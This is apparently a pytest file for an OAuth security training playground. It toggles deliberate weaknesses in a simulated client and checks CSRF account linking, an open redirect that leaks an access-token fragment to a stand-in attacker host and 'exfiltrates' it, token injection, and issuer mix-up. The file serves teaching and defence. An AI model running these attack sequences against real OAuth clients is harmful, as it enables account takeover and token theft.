"""The weaknesses read by the playground's own client, PhotoPrint: each with
the behaviour it unlocks and the same request refused without it."""

from __future__ import annotations

from urllib.parse import urlencode

import pytest

from playground.world import World, WorldKeys


@pytest.fixture(scope="module")
def keys() -> WorldKeys:
    return WorldKeys.generate()


def sign_in_through(browser, start: str) -> None:
    """Open a URL that leads to the AS, sign in as alice and approve."""
    browser.open(start)
    if browser.redirect_location:  # the client's /login sends us to the AS
        browser.follow_redirect()
    browser.sign_in("alice", "wonderland")
    browser.follow_redirect()
    browser.approve()


def attackers_code(world: World) -> str:
    """Mallory signs in to PhotoPrint with her own account (bob) and keeps the code."""
    mallory = world.attacker.browser
    mallory.open("https://photoprint.test/login?scope=basic")
    mallory.follow_redirect()
    mallory.sign_in("bob", "builder")
    mallory.follow_redirect()
    mallory.approve()
    return mallory.redirect_params["code"]


@pytest.mark.parametrize("weak", [True, False])
def test_csrf_with_unchecked_state_links_the_victim_to_the_attackers_account(
    keys, weak
):
    world = World(keys=keys, weaknesses=["client.skip_state_check"] if weak else [])
    code = attackers_code(world)
    victim = world.browser
    victim.open("https://photoprint.test/login?scope=basic")  # her own session
    victim.open(f"https://photoprint.test/callback?code={code}&state=forged")
    if weak:
        assert victim.status == 200
        assert "Hello Bob Builder" in victim.page.text
    else:
        assert victim.status == 400
        assert "does not match" in victim.page.text
        assert world.web_client.last_error == "state_mismatch"


@pytest.mark.parametrize("weak", [True, False])
def test_open_redirect_on_the_client(keys, weak):
    world = World(keys=keys, weaknesses=["client.open_redirect"] if weak else [])
    browser = world.browser
    browser.open("https://photoprint.test/go?to=https://attacker.test/x")
    if weak:
        assert browser.redirect_location == "https://attacker.test/x"
    else:
        assert browser.status == 400 and browser.redirect_location is None
    browser.open("https://photoprint.test/go?to=/callback")
    assert browser.redirect_location == "https://photoprint.test/callback"


def test_redirect_keeps_the_fragment_like_a_browser(keys):
    world = World(keys=keys, weaknesses=["client.open_redirect"])
    browser = world.browser
    browser.open(
        "https://photoprint.test/go?"
        + urlencode({"to": "https://attacker.test/landing"})
        + "#access_token=secret"
    )
    browser.follow_redirect()
    assert browser.address == "https://attacker.test/landing#access_token=secret"
    # The fragment itself never went over the wire.
    assert all("secret" not in e.request.url for e in world.transcript.exchanges)
    world.attacker.exfiltrate(browser)
    assert world.attacker.loot("access_token") == ["secret"]


@pytest.mark.parametrize("weak", [True, False])
def test_token_injection_into_a_client_that_trusts_any_token(keys, weak):
    world = World(keys=keys, weaknesses=["client.accept_any_token"] if weak else [])
    # A token of Alice's issued to another client (the look-alike app).
    stolen = world.first_party_app.password("alice", "wonderland", "basic")
    token = stolen.json()["access_token"]
    mallory = world.attacker.browser
    mallory.open("https://photoprint.test/legacy/callback")
    mallory.http.post(
        "https://photoprint.test/legacy/session", data={"access_token": token}
    )
    session = [
        e for e in world.transcript.exchanges if e.request.url.endswith("/session")
    ]
    status = session[-1].response.status
    if weak:
        assert (
            status == 200 and b"Signed in as Alice Liddell" in session[-1].response.body
        )
    else:
        assert status == 401
        assert b"issued to photoprint-mobile" in session[-1].response.body


def test_legacy_client_accepts_its_own_token(keys):
    world = World(keys=keys)
    browser = world.browser
    url = world.legacy_app.authorization_url("basic", response_type="token")
    sign_in_through(browser, url)
    browser.follow_redirect()
    token = browser.fragment_params["access_token"]
    response = browser.http.post(
        "https://photoprint.test/legacy/session", data={"access_token": token}
    )
    assert response.status_code == 200
    assert b"Signed in as Alice Liddell" in response.content


@pytest.mark.parametrize("weak", [True, False])
def test_callback_checks_iss_against_the_server_it_used(keys, weak):
    world = World(keys=keys, weaknesses=["client.skip_iss_check"] if weak else [])
    browser = world.browser
    sign_in_through(browser, "https://photoprint.test/login?scope=basic")
    params = browser.redirect_params
    forged = "https://photoprint.test/callback?" + urlencode(
        {**params, "iss": "https://as.attacker.test"}
    )
    browser.open(forged)
    if weak:
        assert browser.status == 200 and "Hello Alice" in browser.page.text
    else:
        assert browser.status == 400
        assert world.web_client.last_error == "issuer_mismatch"
